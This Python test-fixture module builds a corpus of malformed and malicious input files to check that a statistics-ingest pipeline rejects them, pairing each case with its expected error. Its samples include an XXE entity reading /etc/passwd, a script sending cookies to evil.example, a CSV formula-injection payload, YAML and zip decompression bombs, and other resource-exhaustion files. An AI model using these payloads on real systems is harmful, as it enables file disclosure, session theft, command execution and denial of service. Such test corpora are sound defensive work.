"""The hostile corpus: broken and malicious returns, generated (never committed as binaries),
each with the clear message the ingest must give for it.

Used by tests/ingest/test_hostile.py (every case in one run beside a good source, which must
still land) and by `make bench` (each case alone: its time and peak memory; targets <= 5 s and
<= 300 MB). Every figure here is invented.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
YML = 'force: Kent\nreference: "HOSTILE"\nperiod_start: 2023-04-01\nperiod_end: 2024-03-31\n'
GOOD_CSV = "Gender,Count\r\nFemale,40\r\nMale,12\r\nTotal,52\r\n"

CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                 '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                 "</Types>")
WORKBOOK = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
WB_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
           'Target="worksheets/sheet1.xml"/></Relationships>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
             'Target="xl/workbook.xml"/></Relationships>')


def xlsx(sheet_xml: str | bytes, head: str = "") -> bytes:
    """A minimal workbook around one sheet's XML (as a hostile tool would write it)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("xl/workbook.xml", WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", WB_RELS)
        body = sheet_xml.encode() if isinstance(sheet_xml, str) else sheet_xml
        zf.writestr("xl/worksheets/sheet1.xml", head.encode() + body)
    return buf.getvalue()


def _sheet(rows: str, extra: str = "") -> str:
    return ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            f"{rows}</sheetData>{extra}</worksheet>")


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def far_corner() -> dict[str, bytes]:
    rows = f'<row r="1">{_inline("A1", "Gender")}</row><row r="1048576"><c r="XFD1048576"><v>5</v></c></row>'
    return {"return.xlsx": xlsx(_sheet(rows))}


def merged_whole_sheet() -> dict[str, bytes]:
    rows = (f'<row r="1">{_inline("A1", "Victims by gender")}</row>'
            f'<row r="3">{_inline("A3", "Female")}<c r="B3"><v>7</v></c></row><row r="4">{_inline("A4", "Male")}<c r="B4"><v>2</v></c></row>')
    return {"return.xlsx": xlsx(_sheet(rows, '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'))}


def two_million_cells() -> dict[str, bytes]:
    parts = []
    for r in range(1, 20_001):
        parts.append(f'<row r="{r}">' + "".join(f"<c><v>{c}</v></c>" for c in range(100)) + "</row>")
    return {"big.xlsx": xlsx(_sheet("".join(parts)))}


def xxe() -> dict[str, bytes]:
    head = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    rows = f'<row r="1">{_inline("A1", "Gender")}{_inline("B1", "Count")}</row><row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c><c r="B2"><v>3</v></c></row>'
    return {"return.xlsx": xlsx(_sheet(rows), head)}


def yaml_bomb() -> dict[str, bytes]:
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for i in range(1, 9):
        lines.append(f"{chr(97 + i)}: &{chr(97 + i)} [*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)},"
                     f"*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)}]")
    lines.append("figures:\n  - breakdown: total\n    value: *i\n    location: x")
    return {"figures.yml": "\n".join(lines).encode()}


def yaml_bomb_source() -> dict[str, bytes]:
    bomb = yaml_bomb()["figures.yml"].decode().split("figures:")[0]
    return {"source.yml": (YML + bomb).encode(), "g.csv": GOOD_CSV.encode()}


def huge_rowspan() -> dict[str, bytes]:
    return {"page.html": (b"<html><body><table><tr><th>Gender</th><th>Count</th></tr>"
                          b"<tr><td rowspan='999999999' colspan='999999'>Female</td><td>4</td></tr>"
                          b"<tr><td>2</td></tr></table></body></html>")}


def repeated_rows() -> dict[str, bytes]:
    return {"rows.csv": ("Gender,Count\r\n" + "Female,1\r\n" * 1800).encode()}


def period_zero() -> dict[str, bytes]:
    return {"figures.csv": b"breakdown,period,value,location\ntotal,0000/01,5,line 1\ntotal,0000,6,line 2\n"}


def year_1600() -> dict[str, bytes]:
    return {"figures.csv": b"breakdown,period_start,period_end,value,location\ntotal,1600-01-01,1600-12-31,5,line 1\n"}


def negative_denominator() -> dict[str, bytes]:
    return {"figures.csv": b"breakdown,platform,measure,value,denominator,location\nplatform,Snapchat,percent,40%,-3,line 1\n"}


def encrypted_pdf() -> dict[str, bytes]:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4, encrypt="secret")
    c.drawString(72, 720, "There have been 39 offences recorded.")
    c.save()
    return {"letter.pdf": buf.getvalue()}


def pdf_500_pages() -> dict[str, bytes]:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4)
    for i in range(500):
        c.drawString(72, 720, f"Page {i + 1}")
        c.showPage()
    c.save()
    return {"letter.pdf": buf.getvalue()}


def password_workbook() -> dict[str, bytes]:
    return {"locked.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") * 4}


def corrupt_docx() -> dict[str, bytes]:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document this is not xml")
    return {"letter.docx": buf.getvalue()}


def script_page() -> dict[str, bytes]:
    return {"page.html": (b"<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head><body>"
                          b"<iframe src='https://evil.example'></iframe><table><tr><th>Gender</th><th>Count</th></tr>"
                          b"<tr><td onmouseover='steal()'>Female</td><td>5</td></tr></table></body></html>")}


def formula_cells() -> dict[str, bytes]:
    return {"g.csv": b"Gender,Count\r\n=cmd|' /C calc'!A0,5\r\nFemale,=1+1\r\n"}


def utf16_csv() -> dict[str, bytes]:
    return {"g.csv": GOOD_CSV.replace("40", "41").replace("52", "53").encode("utf-16")}


def huge_field() -> dict[str, bytes]:
    return {"g.csv": b"Gender,Count\r\nFemale," + b"9" * 2_000_000 + b"\r\n"}


def deep_html() -> dict[str, bytes]:
    return {"page.html": b"<html><body>" + b"<div>" * 100_000 + b"<table><tr><td>Female</td><td>3</td></tr></table>" + b"</div>" * 100_000
            + b"</body></html>"}


def markup_labels() -> dict[str, bytes]:
    return {"g.csv": b"Gender,Count\r\n[corrected figures](https://evil.example) ![x](https://evil.example/i.png),5\r\n"
                     b"<b>Female</b>,4\r\n"}


# --- issue 21's second probe: small files that cost minutes or gigabytes (each bounded) ----------

def _pdf(draw: Callable[[Any], None], size: tuple[float, float] = (595.0, 842.0)) -> bytes:
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=size)
    draw(c)
    c.save()
    return buf.getvalue()


def huge_blank_page() -> dict[str, bytes]:
    """One blank page of 14,400 pt: at 300 dpi, 3.6 billion pixels for OCR."""
    return {"letter.pdf": _pdf(lambda c: c.showPage(), (14_400.0, 14_400.0))}


def blank_pages() -> dict[str, bytes]:
    def draw(c: Any) -> None:
        for _ in range(199):
            c.showPage()
    return {"letter.pdf": _pdf(draw)}


def glyphs_on_one_line() -> dict[str, bytes]:
    def draw(c: Any) -> None:
        c.setFont("Helvetica", 1)
        for i in range(6):
            c.drawString(10, 800 - i * 2, "9 " * 5_000)
        c.showPage()
    return {"letter.pdf": _pdf(draw, (20_000.0, 842.0))}


def _xlsx_parts(parts: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
    return buf.getvalue()


SST = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</sst>'


def _workbook(sheet_rows: str, workbook: str = WORKBOOK, shared: str | None = None) -> bytes:
    """A minimal workbook with its own workbook part and, when given, a shared-strings part."""
    parts: dict[str, str | bytes] = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": workbook,
                                     "xl/_rels/workbook.xml.rels": WB_RELS, "xl/worksheets/sheet1.xml": _sheet(sheet_rows)}
    if shared is not None:
        parts["xl/sharedStrings.xml"] = SST.format(shared)
    return _xlsx_parts(parts)


def shared_strings_bomb() -> dict[str, bytes]:
    """Sixteen million empty shared strings, compressed to a few hundred KB."""
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return {"return.xlsx": _workbook(rows, shared="<si/>" * 16_000_000)}


def one_string_many_cells() -> dict[str, bytes]:
    """One 9.9 MB shared string used by 100 cells."""
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c><c r="B{r}"><v>{r}</v></c></row>' for r in range(1, 101))
    return {"return.xlsx": _workbook(rows, shared="<si><t>" + "Female " * 1_414_000 + "</t></si>")}


def many_sheet_entries() -> dict[str, bytes]:
    """2,000 sheet entries, every one pointing at the same part."""
    sheets = "".join(f'<sheet name="S{i}" sheetId="{i + 1}" r:id="rId1"/>' for i in range(2_000))
    workbook = WORKBOOK.replace('<sheet name="Sheet1" sheetId="1" r:id="rId1"/>', sheets)
    rows = "".join(f'<row r="{r}">{_inline(f"A{r}", "Female")}<c r="B{r}"><v>{r}</v></c></row>' for r in range(1, 2_001))
    return {"return.xlsx": _workbook(rows, workbook)}


def million_empty_rows() -> dict[str, bytes]:
    """A million styled rows that hold nothing."""
    rows = f'<row r="1">{_inline("A1", "Female")}<c r="B1"><v>3</v></c></row>' + "".join(
        f'<row r="{r}" s="1" customFormat="1"><c r="A{r}" s="1"/></row>' for r in range(2, 1_000_001))
    return {"return.xlsx": xlsx(_sheet(rows))}


def _understated(name: str, body: bytes, others: dict[str, str]) -> bytes:
    """A zip whose directory says the member `name` unpacks to 1 KB; it unpacks to len(body)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for n, b in others.items():
            zf.writestr(n, b)
        zf.writestr(name, body)
    data = bytearray(buf.getvalue())
    true_size = len(body).to_bytes(4, "little")
    at = 0
    while (at := data.find(true_size, at)) != -1:  # the local header's and the directory's size fields
        data[at:at + 4] = (1024).to_bytes(4, "little")
        at += 4
    return bytes(data)


def understated_docx_member() -> dict[str, bytes]:
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' + b" " * 300_000_000
    return {"letter.docx": _understated("word/document.xml", body, {"[Content_Types].xml": "<Types/>"})}


def whitespace_ods() -> dict[str, bytes]:
    body = b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">' \
        + b" " * 300_000_000 + b"</office:document-content>"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("META-INF/manifest.xml", "<manifest/>")
        zf.writestr("content.xml", body)
    return {"table.ods": buf.getvalue()}


def xls_far_corner() -> dict[str, bytes]:
    import xlwt

    wb = xlwt.Workbook()
    ws = wb.add_sheet("Sheet1")
    ws.write(0, 0, "Female")
    ws.write(65535, 255, 5)
    buf = io.BytesIO()
    wb.save(buf)
    return {"return.xls": buf.getvalue()}


def many_html_tables() -> dict[str, bytes]:
    return {"page.html": b"<html><body>" + b"<table><tr><td>1</td></tr></table>" * 400_000 + b"</body></html>"}


def far_too_large_value() -> dict[str, bytes]:
    rows = (f'<row r="1">{_inline("A1", "Gender")}{_inline("B1", "Count")}</row>'
            f'<row r="2">{_inline("A2", "Female")}<c r="B2"><v>1e308</v></c></row><row r="3">{_inline("A3", "Male")}<c r="B3"><v>2</v></c></row>')
    return {"return.xlsx": xlsx(_sheet(rows))}


def _table(c: Any, rows: list[tuple[str, str]], y: float = 700) -> None:
    c.drawString(72, y + 40, "Sexual communication with a child: offences recorded in 2023/24, by victim gender")
    for i, (label, value) in enumerate(rows):
        c.drawString(72, y - i * 20, label)
        c.drawString(300, y - i * 20, value)


def redacted_number() -> dict[str, bytes]:
    """A figure printed, then covered by a black box: the text layer still says 400."""
    def draw(c: Any) -> None:
        _table(c, [("Gender", "Number of offences"), ("Female", "400"), ("Male", "12")])
        c.setFillColorRGB(0, 0, 0)
        c.rect(296, 676, 30, 16, fill=1, stroke=0)
        c.showPage()
    return {"letter.pdf": _pdf(draw)}


def invisible_text_over_image() -> dict[str, bytes]:
    """A scan's invisible OCR layer that says 39 over an image that shows 93."""
    from PIL import Image, ImageDraw
    from reportlab.lib.utils import ImageReader

    img = Image.new("RGB", (1240, 600), "white")
    d = ImageDraw.Draw(img)
    for i, (label, value) in enumerate([("Gender", "Number of offences"), ("Female", "93"), ("Male", "12")]):
        d.text((100, 100 + 60 * i), label, fill="black")
        d.text((600, 100 + 60 * i), value, fill="black")

    def draw(c: Any) -> None:
        c.drawImage(ImageReader(img), 0, 400, 595, 288)
        t = c.beginText(72, 700)
        t.setTextRenderMode(3)  # invisible, as OCR layers are written
        for label, value in [("Gender", "Number of offences"), ("Female", "39"), ("Male", "12")]:
            t.textLine(f"{label}                                        {value}")
        c.drawText(t)
        c.showPage()
    return {"letter.pdf": _pdf(draw)}


@dataclass(frozen=True)
class Case:
    name: str
    files: Callable[[], dict[str, bytes]]
    message: str  # what issues.csv or stderr must say about the source
    issue_type: str = ""  # the issue type it must carry, when one is fixed
    costly: bool = False  # built to cost minutes or gigabytes: must also finish within the bounds test's time and memory


CASES = [
    Case("far_corner_cell", far_corner, "no figures found", "source_empty"),
    Case("merged_over_whole_sheet", merged_whole_sheet, "gender 'Female' read as 'female'"),
    Case("two_million_cells", two_million_cells, "filled cells, the limit", "source_too_large"),
    Case("xxe_entity", xxe, "declares XML entities", "xml_entities_ignored"),
    Case("yaml_anchor_bomb", yaml_bomb, "aliases (*a) are not allowed", "source_unreadable"),
    Case("yaml_anchor_bomb_in_source_yml", yaml_bomb_source, "aliases", "invalid_source_yml"),
    Case("huge_rowspan", huge_rowspan, "gender 'Female' read as 'female'"),
    Case("repeated_rows", repeated_rows, "same figure given twice", "duplicate_figure"),
    Case("period_0000", period_zero, "cannot be read as dates", "unparsed_period"),
    Case("year_1600", year_1600, "outside the dates the table can hold", "invalid_figure"),
    Case("negative_denominator", negative_denominator, "denominator is negative", "invalid_figure"),
    Case("encrypted_pdf", encrypted_pdf, "protected by a password", "source_unreadable"),
    Case("pdf_of_500_pages", pdf_500_pages, "500 pages, over the limit of 200 pages", "source_too_large"),
    Case("password_workbook", password_workbook, "protected by a password", "source_unreadable"),
    Case("corrupt_docx", corrupt_docx, "not a readable Word document", "source_unreadable"),
    Case("script_in_page", script_page, "page carries active content", "html_active_content"),
    Case("formula_cells", formula_cells, "looks like a spreadsheet formula", "formula_like_text"),
    Case("utf16_csv", utf16_csv, "file is UTF-16 text", "encoding_fallback"),
    Case("two_megabyte_cell", huge_field, "not readable as CSV", "source_unreadable"),
    Case("deeply_nested_page", deep_html, "", ""),
    Case("markup_in_labels", markup_labels, "kept as plain text, never rendered", "markup_like_text"),
    # issue 21's second probe
    Case("huge_blank_page", huge_blank_page, "page(s) are blank", "source_empty", costly=True),
    Case("blank_pages", blank_pages, "199 page(s) are blank", "source_empty", costly=True),
    Case("glyphs_on_one_line", glyphs_on_one_line, "over 32,767 characters", "text_cut", costly=True),
    Case("shared_strings_bomb", shared_strings_bomb, "shared strings holds over 1,000,000 entries", "source_too_large", costly=True),
    Case("one_string_many_cells", one_string_many_cells, "over 32,767 characters", "text_cut", costly=True),
    Case("many_sheet_entries", many_sheet_entries, "lists over 255 sheets", "source_too_large", costly=True),
    Case("million_empty_rows", million_empty_rows, "gender 'Female' read as 'female'", costly=True),
    Case("understated_docx_member", understated_docx_member, "is not what the file's directory says", "source_unreadable", costly=True),
    Case("whitespace_ods", whitespace_ods, "over the 80 MB limit for one part", "source_too_large", costly=True),
    Case("xls_far_corner", xls_far_corner, "the limit for one file", "source_too_large", costly=True),
    Case("many_html_tables", many_html_tables, "400,000 tables, over the limit", "source_too_large", costly=True),
    Case("far_too_large_value", far_too_large_value, "count 1e+308 is larger than any area could record", "implausible_value"),
    Case("redacted_number", redacted_number, "lie under filled boxes of their own colour", "hidden_text"),
    Case("invisible_text_over_image", invisible_text_over_image, "invisible layer", "hidden_text"),
]
BOUNDED = [c for c in CASES if c.costly]


def write_case(root: Path, case: Case) -> Path:
    folder = root / case.name
    folder.mkdir(parents=True)
    files = case.files()
    if "source.yml" not in files:
        (folder / "source.yml").write_text(YML, encoding="utf-8")
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def write_good(root: Path) -> Path:
    folder = root / "a_good_source"
    folder.mkdir(parents=True)
    (folder / "source.yml").write_text(YML, encoding="utf-8")
    (folder / "g.csv").write_text(GOOD_CSV, encoding="utf-8")
    return folder


# Peak memory of a measured process and of the worker it reads files in, in MB, as an expression
# for the `-c` code of a measurement. Not ru_maxrss of the process itself: that keeps, across exec,
# the size of the process it was forked from (a test runner holding 800 MB showed as 800 MB here).
PEAK_MB = ("max(int([l for l in open('/proc/self/status') if l.startswith('VmHWM')][0].split()[1]) / 1024, "
           "__import__('resource').getrusage(__import__('resource').RUSAGE_CHILDREN).ru_maxrss / 1024)")


def measure_case(case: Case) -> tuple[float, float]:
    """One case alone, in a fresh process: (seconds, peak MB) of `python -m ingest` on it."""
    with tempfile.TemporaryDirectory() as tmp:
        write_case(Path(tmp) / "raw", case)
        code = ("import json,resource,sys,time;sys.path.insert(0,{root!r});t=time.perf_counter();from ingest.__main__ import main;"
                "main([{raw!r},'--out',{out!r},'-q']);print(json.dumps([time.perf_counter()-t,"
                f"{PEAK_MB}]))").format(
            root=str(ROOT), raw=str(Path(tmp) / "raw"), out=str(Path(tmp) / "out"))
        t = time.perf_counter()
        out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
        wall = time.perf_counter() - t
        try:
            seconds, peak = json.loads(out.stdout.strip().splitlines()[-1])
        except (ValueError, IndexError):
            return wall, float("nan")
        return float(seconds), float(peak)


def worst_case() -> tuple[str, float, float]:
    """The slowest case of the corpus (name, seconds, peak MB), each run alone."""
    results = [(c.name, *measure_case(c)) for c in CASES]
    return max(results, key=lambda r: (r[1], r[2]))


def all_cases() -> list[tuple[str, float, float]]:
    return [(c.name, *measure_case(c)) for c in CASES]
